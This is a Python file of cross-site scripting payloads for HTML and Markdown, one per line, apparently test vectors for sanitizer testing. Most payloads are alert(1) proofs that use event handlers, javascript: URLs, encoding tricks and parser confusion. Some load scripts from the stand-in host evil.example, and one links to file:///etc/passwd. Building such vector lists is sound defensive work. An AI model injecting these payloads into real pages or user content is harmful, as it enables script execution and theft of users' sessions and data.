"""Ways to smuggle a script into a page that were known to work somewhere, one a line."""

from __future__ import annotations

HTML = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script	>alert(1)</script	>
<script/x>alert(1)</script>
<<script>alert(1);//<</script>
<script>alert(1)
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style></script><script>alert(1)</script>
--><script>alert(1)</script><!--
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
` onclick=alert(1) x=`
"onload="alert(1)" x="
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src="x" onerror	=	"alert(1)">
<img src=`x`onerror=alert(1)>
<img src=x oNeRrOr=alert(1)//
<image src=x onerror=alert(1)>
<img src=javascript:alert(1)>
<img srcset="x 1x, javascript:alert(1) 2x">
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script xlink:href=data:,alert(1) />
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x">
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onclick=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)>
<frameset onload=alert(1)>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src="javascript:alert(1)">
<applet code=x archive=//evil.example/x.jar>
<base href="javascript:alert(1)//">
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<style>@import 'javascript:alert(1)';</style>
<style>*{background:url(javascript:alert(1))}</style>
<p style="background:url(javascript:alert(1))">
<p style="width:expression(alert(1))">
<div style=behavior:url(#default#time2) onbegin=alert(1)>
<form action=javascript:alert(1)><input type=submit>
<form><button formaction=javascript:alert(1)>x</button>
<form id=x></form><button form=x formaction="javascript:alert(1)">x
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=JaVaScRiPt:alert(1)>x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href="javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="jav&Tab;ascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//evil.example" ping="javascript:alert(1)" target=_blank onclick=alert(1)>x</a>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<plaintext><script>alert(1)</script>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<? foo="><script>alert(1)</script>">
<% foo><img src=x onerror=alert(1)>
<![CDATA[<img src=x onerror=alert(1)>]]>
<x onclick=alert(1)>x</x>
<x contenteditable onblur=alert(1)>x
<p/onclick=alert(1)>x
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\x3cscript\x3ealert(1)\x3c/script\x3e
\u003cscript\u003ealert(1)\u003c/script\u003e
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
{{ config }} {{ ''.__class__.__mro__ }}
{% raw %}<script>alert(1)</script>{% endraw %}
${alert(1)} #{alert(1)} <%= alert(1) %>
javascript:alert(1)
""".strip().split("\n")

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](java&#115;cript:alert(1))
[x](javascript&colon;alert(1))
[x](<javascript:alert(1)>)
[x](< javascript:alert(1)>)
[x](\javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](//evil.example "onmouseover=alert(1)")
[x](https://a.example/" onmouseover="alert(1))
[x](https://a.example/'onmouseover='alert(1))
[x](https://a.example "t\" onmouseover=\"alert(1)")
[x](https://a.example '"><script>alert(1)</script>')
[<script>alert(1)</script>](https://a.example)
[![x](x "y")](javascript:alert(1))
![x](javascript:alert(1))
![x](x" onerror="alert(1))
![" onerror="alert(1)](x)
![x](x "t" onerror="alert(1)")
<javascript:alert(1)>
<JavaScript:alert(1)>
<data:text/html,alert(1)>
<https://a.example/" onmouseover="alert(1)>
`<script>alert(1)</script>`
``` "><script>alert(1)</script>
~~~ html onclick=alert(1)
*<img src=x onerror=alert(1)>*
**x**<svg/onload=alert(1)>
&lt;img src=x onerror=alert(1)&gt;
\<script>alert(1)\</script>
[x][y] and [y]: javascript:alert(1)
[x]: javascript:alert(1) "x"
| <script>alert(1)</script> | [x](javascript:alert(1)) |
1. <script>alert(1)</script>
> <img src=x onerror=alert(1)>
http://a.example/<script>alert(1)</script>
""".strip().split("\n")

VECTORS = [*HTML, *MARKDOWN]
